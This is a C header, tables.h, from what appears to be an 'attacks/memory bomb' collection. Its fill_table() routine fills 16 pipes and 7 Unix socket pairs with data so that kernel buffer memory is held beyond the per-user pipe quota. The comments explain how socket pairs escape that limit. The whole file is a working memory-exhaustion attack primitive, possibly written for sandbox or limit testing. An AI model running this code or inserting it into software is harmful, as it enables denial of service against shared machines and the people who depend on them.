/* SPDX-License-Identifier: MIT */
/*
 * tables.h - a table of descriptors that holds as much of the kernel's memory as 46 of them can.
 *
 * Pipes alone do not get far: a user's pipes together have 64 MiB (pipe-user-pages-soft). Pairs of
 * sockets have no such sum.
 */
#ifndef ATTACKS_MEMORY_BOMB_TABLES_H
#define ATTACKS_MEMORY_BOMB_TABLES_H

#include <fcntl.h>
#include <stddef.h>
#include <sys/socket.h>
#include <unistd.h>

enum { TABLE_PIPES = 16, TABLE_PAIRS = 7 };

/* System calls only: whoever calls this may share another thread's thread-local memory. */
static inline void fill_table(const char *block, size_t size)
{
	int p[2];

	for (int i = 0; i < TABLE_PIPES && !pipe2(p, O_NONBLOCK); i++)
		if (write(p[1], block, size) < 0)
			break;
	for (int i = 0; i < TABLE_PAIRS && !socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, p); i++)
		for (int end = 0; end < 2; end++)
			while (write(p[end], block, size) > 0)
				continue;
}

#endif
